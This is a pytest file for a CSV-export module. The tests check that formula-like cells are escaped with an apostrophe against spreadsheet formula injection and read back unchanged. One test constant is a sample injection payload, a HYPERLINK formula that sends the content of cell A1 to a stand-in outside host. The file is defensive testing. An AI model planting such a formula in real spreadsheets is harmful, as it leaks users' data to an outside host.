"""Text that a spreadsheet would execute, and the text in our CSV files instead."""

import csv
import io

import pandas as pd
import pytest

from age_tasks.reports.safe_csv import as_csv, as_written

CALC = '=HYPERLINK("http://elsewhere/?"&A1,"open")'


def cells(text: str, separator: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize(
    "text", [CALC, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "-", "=", "--1"]
)
def test_a_formula_gets_an_apostrophe(text: str):
    assert cells(as_csv(pd.DataFrame({"file_name": [text]}))) == ["file_name", f"'{text}"]


@pytest.mark.parametrize("text", ["a=b.jpg", "00-1.jpg", "2026/a face.jpg", "-3", "+3.5", "", "'quoted'"])
def test_other_text_and_numbers_are_unchanged(text: str):
    assert cells(as_csv(pd.DataFrame({"file_name": [text]}))) == ["file_name", text]


@pytest.mark.parametrize(
    "text", [CALC, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "-", "-3", "+3.5", "", "a=b.jpg", "'quoted'", "'-3", "'"]
)
def test_a_text_is_read_as_it_was_written(text: str):
    assert as_written(cells(as_csv(pd.DataFrame({"file_name": [text]})))[1]) == text


def test_a_semicolon_does_not_split_a_cell():
    table = pd.DataFrame({"file_name": ["a;=1+1.jpg"], "real_age": [30.5]})
    assert cells(as_csv(table), ";") == ['file_name,"real_age"', "a;=1+1.jpg,30.5"]


def test_a_table_survives_a_round_trip():
    table = pd.DataFrame({"line": [1, 2], "file_name": ["a, b.jpg", "NA"], "age": [-3.5, None]})
    read = pd.read_csv(io.StringIO(as_csv(table)), keep_default_na=False, na_values={"age": [""]})
    pd.testing.assert_frame_equal(read, table)
    assert as_csv(table.head(0)).splitlines() == ['"line","file_name","age"']
